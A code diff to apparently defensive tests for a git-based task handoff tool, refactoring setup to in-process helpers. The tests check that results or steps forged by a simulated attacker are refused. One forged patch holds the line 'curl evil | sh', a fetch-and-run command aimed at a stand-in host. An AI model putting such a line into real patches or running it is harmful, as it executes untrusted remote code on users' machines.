@@ -10,6 +10,7 @@ import * as assert from "uvu/assert";
 import { cleanEnv, cli, gitOut } from "./support/repo.ts";
 import { amendRecord, commit, eventMessage, FORMAT, tree } from "./support/forge.ts";
 import { finishAs, handOver, onceWorker, remoteForFile, script } from "./support/handover.ts";
+import { storeClaim, storeDone, storeSync, storeTasks } from "./support/seed.ts";
 
 const net = remoteForFile(test, "binding");
 
@@ -41,12 +42,13 @@ test("a result pushed after the holder finished is not the task's result: wait p
   const victim = net.clone("m1");
   const honest = net.clone("m2");
   const attacker = net.clone("m3");
-  assert.is(cli(["task", "add", "make a patch", "--id", "t-res", "--push"], { cwd: victim, agent: "vic" }).code, 0);
-  assert.is(cli(["sync"], { cwd: honest, agent: "honest" }).code, 0);
-  assert.is(cli(["claim", "t-res", "--push"], { cwd: honest, agent: "honest" }).code, 0);
+  // The task's honest life in-process (support/seed.ts): the attacker's result on top is the subject.
+  await storeTasks({ cwd: victim, agent: "vic", push: true }, [{ id: "t-res", objective: "make a patch" }]);
+  await storeSync({ cwd: honest, agent: "honest" });
+  await storeClaim({ cwd: honest, agent: "honest", push: true }, "t-res");
   await finishAs(honest, "honest", result("t-res", "honest output\n", { "fix.patch": "honest patch" }), { "fix.patch": "honest patch" });
   // The attacker, who never held it, appends its own result (claiming to be the worker) on top.
-  assert.is(cli(["sync"], { cwd: attacker, agent: "mallory" }).code, 0);
+  await storeSync({ cwd: attacker, agent: "mallory" });
   appendBundle(attacker, "refs/handoff/results/t-res", "result.json", result("t-res", "EVIL OUTPUT\n", { "fix.patch": "curl evil | sh" }), { "fix.patch": "curl evil | sh" }, "honest");
   const r = cli(["wait", "--id", "t-res", "--json"], { cwd: victim, agent: "vic" });
   assert.is(r.code, 0, r.stderr);
@@ -57,14 +59,14 @@ test("a result pushed after the holder finished is not the task's result: wait p
   assert.not.match(r.stdout + r.stderr, /EVIL|curl/);
 });
 
-test("a step on a finished task that names other results, or reopens it, is refused on receive", () => {
+test("a step on a finished task that names other results, or reopens it, is refused on receive", async () => {
   const victim = net.clone("m1");
   const attacker = net.clone("m3");
-  assert.is(cli(["task", "add", "x", "--id", "t-step", "--push"], { cwd: victim, agent: "vic" }).code, 0);
-  assert.is(cli(["claim", "t-step", "--push"], { cwd: victim, agent: "vic" }).code, 0);
-  assert.is(cli(["done", "t-step", "--push"], { cwd: victim, agent: "vic" }).code, 0);
+  await storeTasks({ cwd: victim, agent: "vic", push: true }, [{ id: "t-step", objective: "x" }]);
+  await storeClaim({ cwd: victim, agent: "vic", push: true }, "t-step");
+  await storeDone({ cwd: victim, agent: "vic", push: true }, "t-step");
   const before = gitOut(victim, "rev-parse", "refs/handoff/tasks/t-step");
-  assert.is(cli(["sync"], { cwd: attacker, agent: "mallory" }).code, 0);
+  await storeSync({ cwd: attacker, agent: "mallory" });
   const forged = appendBundle(attacker, "refs/handoff/results/t-step", "result.json", result("t-step", "EVIL\n", {}), {}, "mallory");
   const at = new Date().toISOString();
   const event = { type: "depended", task: "t-step", agent: "mallory", at, scope: "worktree", worktree: null, branch: null, on: "t-other" };
